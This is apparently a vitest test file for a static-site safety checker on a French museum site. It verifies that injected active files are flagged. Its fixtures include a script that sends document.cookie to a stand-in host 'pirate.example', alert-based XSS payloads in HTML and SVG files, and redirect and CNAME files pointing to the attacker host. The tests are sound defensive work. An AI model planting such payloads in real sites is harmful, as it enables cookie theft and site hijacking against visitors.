import { copyFile, mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { SITE_ASSETS_DIR } from "../../src/site/pages.js";
import { safetyViolations } from "./site-safety.js";

const CSP = `<meta http-equiv="Content-Security-Policy" content="default-src 'self'; script-src 'self' 'wasm-unsafe-eval'">`;
const page = (body: string) => `<!doctype html><html lang="fr"><head>${CSP}<title>Page</title></head><body>${body}<footer class="site-footer"></footer></body></html>`;
const OPTIONS = { input: "", siteOrigin: "https://www.museumxtd.ch" };

describe("safetyViolations on the files of a site", () => {
  let site = "";
  beforeEach(async () => {
    site = await mkdtemp(path.join(os.tmpdir(), "garden-safety-"));
  });
  afterEach(() => rm(site, { recursive: true, force: true }));

  async function write(files: Readonly<Record<string, string>>): Promise<void> {
    for (const [file, text] of Object.entries(files)) {
      await mkdir(path.dirname(path.join(site, file)), { recursive: true });
      await writeFile(path.join(site, file), text);
    }
  }

  /** The site's own files, as the build writes them. */
  async function writeSiteOwnFiles(): Promise<void> {
    await mkdir(path.join(site, "assets"), { recursive: true });
    for (const name of ["site.css", "theme.js"]) await copyFile(path.join(SITE_ASSETS_DIR, name), path.join(site, "assets", name));
    await write({
      "pagefind/pagefind-ui.js": "// Pagefind",
      "pagefind/pagefind.js": "// Pagefind",
      "pagefind/pagefind-entry.json": "{}",
      "pagefind/wasm.fr.pagefind": "",
      "pagefind/index/fr_1.pf_index": "",
      "pagefind/fragment/fr_1.pf_fragment": "",
      "flux.xml": "<feed/>",
      "sitemap.xml": "<urlset/>",
    });
  }

  it("passes the site's own scripts, pages, feed and Pagefind files, and a plain SVG", async () => {
    await writeSiteOwnFiles();
    await write({
      "index.html": page(`<script src="/assets/theme.js"></script><script src="/pagefind/pagefind-ui.js"></script><img src="/pastille.svg" alt="">`),
      "pastille.svg": `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><defs><circle id="c" r="4"/></defs><use xlink:href="#c"/><image href="data:image/png;base64,AAAA"/></svg>`,
      "plan.pdf": "%PDF",
    });
    expect(await safetyViolations(site, OPTIONS)).toEqual([]);
  });

  it("flags every active file the old build copied from the notes, which the old allow-list let through", async () => {
    await writeSiteOwnFiles();
    // What the build wrote before attachments followed the notes: every file of the vault, at its path.
    await write({
      "index.html": page(`<script src="/assets/stats.js"></script><script src="/pagefind/evil.js"></script><img src="/hostile.svg" alt="">`),
      "assets/stats.js": "fetch('https://pirate.example/?' + document.cookie)",
      "assets/site.css": "body { background: url(https://pirate.example/pixel) }",
      "pagefind/evil.js": "alert(1)",
      "x.js": "alert(1)",
      "module.mjs": "alert(1)",
      "page.html": "<script>alert(document.cookie)</script>",
      "donnees.xml": "<x/>",
      "hostile.svg": `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`,
      "images/clic.svg": `<svg xmlns="http://www.w3.org/2000/svg"><rect onclick="alert(1)"/><foreignObject><div/></foreignObject></svg>`,
      "images/lien.svg": `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)"><text>x</text></a><svg:script xmlns:svg="http://www.w3.org/2000/svg"/></svg>`,
      _redirects: "/* https://pirate.example 301",
      CNAME: "pirate.example",
      "netlify.toml": "[build]",
      "docs/vercel.json": "{}",
    });
    expect((await safetyViolations(site, OPTIONS)).sort()).toEqual(
      [
        "CNAME : fichier de réglage de l'hébergeur",
        "_redirects : fichier de réglage de l'hébergeur",
        "assets/site.css : fichier sous /assets/ qui n'est pas celui du site",
        "assets/stats.js : fichier sous /assets/ qui n'est pas celui du site",
        "docs/vercel.json : fichier de réglage de l'hébergeur",
        "donnees.xml : fichier actif (script, page, XML ou WebAssembly) que le site n'écrit pas",
        "hostile.svg : SVG actif : élément <script>",
        'images/clic.svg : SVG actif : attribut onclick, élément <foreignObject>',
        'images/lien.svg : SVG actif : lien href="javascript:alert(1)", élément <svg:script>',
        'index.html : script non autorisé <script src="/assets/stats.js">',
        'index.html : script non autorisé <script src="/pagefind/evil.js">',
        "module.mjs : fichier actif (script, page, XML ou WebAssembly) que le site n'écrit pas",
        "netlify.toml : fichier de réglage de l'hébergeur",
        "page.html : page sans la politique CSP du site",
        "page.html : pas de pied de page : la fin de la page a été avalée",
        "page.html : script non autorisé <script>",
        "pagefind/evil.js : fichier sous /pagefind/ que Pagefind n'écrit pas",
        "x.js : fichier actif (script, page, XML ou WebAssembly) que le site n'écrit pas",
      ].sort(),
    );
  });
});
